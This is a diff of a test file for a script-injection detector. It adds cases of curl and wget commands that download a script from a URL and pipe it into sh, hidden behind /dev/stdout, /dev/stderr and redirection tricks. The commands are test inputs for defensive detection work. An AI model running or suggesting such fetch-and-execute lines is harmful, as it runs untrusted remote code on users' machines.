@@ -2125,7 +2125,8 @@ describe('SCRIPT_INJECTION: v1alpha1 and v1beta1 substitutions', () => {
       // wget 1.21 run; wget's -P does not prefix its -O)
       for (const line of ['curl -fsSL -o /dev/./stdout "$X" | sh', 'curl -fsSL -o //dev/stdout "$X" | sh', 'curl -fsSL -o /dev/../dev/stdout "$X" | sh',
         'curl -fsSL --output-dir /dev -o stdout "$X" | sh', 'curl -fsSL -o ./stdout "$X" --output-dir /dev | sh', 'curl -fsSL --output-dir /dev/fd -o 1 "$X" | sh',
-        'wget -qO //dev/./stdout "$X" | sh']) {
+        'wget -qO //dev/./stdout "$X" | sh', 'curl -fsSL -o /dev/stderr "$X" 2>&1 | sh', 'curl -fsSL -o /dev/fd/2 "$X" 2>&1 >/dev/null | sh',
+        'wget -qO /dev/stderr "$X" 2>&1 | sh', 'curl -fsSL -o /dev/null https://example.com/a -o /dev/stderr "$X" 2>&1 | sh']) {
         expect(run(`${line}\n`)).toEqual([ranAsCode(line, `sh reads as code what ${line.split(' ')[0]} downloads with it (from the URL it names)`)]);
       }
       expect(run('curl -fsSL --output-dir /tmp -o i.sh "$X"; sh /tmp/i.sh\n'))
@@ -2134,7 +2135,9 @@ describe('SCRIPT_INJECTION: v1alpha1 and v1beta1 substitutions', () => {
         .toEqual([ranAsCode('sh /tmp/i.sh', 'sh runs the file /tmp/i.sh, which `curl -fsSL -o /tmp/./i.sh "$X"` writes it to')]);
       for (const script of ['curl -fsSL --output-dir /tmp -o - "$X" > /dev/null | sh\n', 'curl -fsSL --output-dir /tmp -o stdout "$X" | sh\n',
         'curl -fsSL --output-dir /dev -o stdout https://example.com/i.sh --next --output-dir /tmp -o i.sh "$X"; sh i.sh\n',
-        'curl -fsSL --output-dir /tmp -o i.sh "$X"; sh i.sh\n', 'wget -q -P /dev -O stdout "$X" | sh\n', 'curl -fsSL --output-dir /tmp -o /dev/stdout "$X" | sh\n']) {
+        'curl -fsSL --output-dir /tmp -o i.sh "$X"; sh i.sh\n', 'wget -q -P /dev -O stdout "$X" | sh\n', 'curl -fsSL --output-dir /tmp -o /dev/stdout "$X" | sh\n',
+        'curl -fsSL -o /dev/stderr "$X" | sh\n', 'curl -fsSL -o /dev/stderr "$X" > /dev/null 2>&1 | sh\n', 'curl -fsSL -o /dev/stderr "$X" 2>&1 2> /tmp/log | sh\n',
+        'curl -fsSL -o /dev/stderr https://example.com/a -o /dev/null "$X" 2>&1 | sh\n']) {
         expect(run(script)).toEqual([]);
       }
       expect(run('curl -sL --expand-url "$X" | sh\n')).toEqual([ranAsCode('curl -sL --expand-url "$X" | sh', 'sh reads as code what curl downloads with it (from the URL it names)')]);
